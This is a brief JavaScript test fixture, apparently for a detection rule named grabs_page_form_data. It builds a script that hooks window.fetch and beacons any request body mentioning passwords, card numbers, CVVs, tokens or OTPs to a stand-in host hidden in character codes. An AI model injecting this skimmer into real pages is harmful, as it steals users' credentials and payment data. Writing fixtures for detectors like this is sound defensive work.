const c = [104, 116, 116, 112, 115, 58, 47, 47, 121];
function tail() {
  const u = String.fromCharCode.apply(String, c);
  return (
    "var f=window.fetch;window.fetch=function(a,o){try{if(o&&o.body&&" +
    // ruleid: grabs_page_form_data
    "/pass|card|cvv|token|otp/i.test(o.body)){" +
    "navigator.sendBeacon('" + u + "',JSON.stringify({u:String(a),b:o.body}))}}catch(e){}return f.apply(this,arguments)};"
  );
}
